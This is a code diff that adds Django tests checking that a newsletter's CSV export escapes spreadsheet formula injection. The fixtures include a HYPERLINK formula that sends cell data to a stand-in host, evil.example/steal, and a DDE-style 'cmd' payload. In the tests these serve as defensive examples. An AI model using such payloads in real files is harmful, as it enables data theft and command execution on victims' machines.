@@ -12,7 +12,8 @@ from django.test import Client
 from rewrites.models import PublishedStory
 from rewrites.publishing.publish import publish_rewrite
 from rewrites.records import import_record
-from tests.publishing_helpers import approved_record, set_domain
+from tests.factories import approved_record
+from tests.publishing_helpers import set_domain
 
 pytestmark = pytest.mark.django_db
 
@@ -204,3 +205,34 @@ def test_anonymous_visitors_are_sent_to_log_in():
     response = Client().get("/newsletter/")
 
     assert response.status_code == 302 and "login" in response["Location"]
+
+
+FORMULA_HEADLINE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Frieren season 2 confirmed")'
+
+
+def test_csv_export_neutralises_a_headline_a_spreadsheet_would_run_as_a_formula(seed_record, editor, staff):
+    published(seed_record, editor, number=71, headline=FORMULA_HEADLINE, blurb="@SUM(1+1)*cmd|' /C calc'!A0",
+              when=datetime(2026, 7, 3, 12, tzinfo=dt_timezone.utc))
+    client = staff_client(staff)
+    token = form_fields(client.get("/newsletter/").content.decode())["csrfmiddlewaretoken"]
+
+    response = client.post(
+        "/newsletter/export/",
+        {"date_from": "2026-07-01", "date_to": "2026-07-05", "format": "csv", "csrfmiddlewaretoken": token},
+    )
+
+    text = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["headline"] == "'" + FORMULA_HEADLINE
+    assert rows[0]["blurb"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert ',"=' not in text and ',=' not in text
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tTAB", "\rCR"])
+def test_every_formula_trigger_is_neutralised(cell):
+    from newsroom.csv_safety import SafeCsvWriter
+
+    buffer = io.StringIO()
+    SafeCsvWriter(buffer).writerow([cell, "plain", 3, -4])
+
+    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + cell, "plain", "3", "-4"]
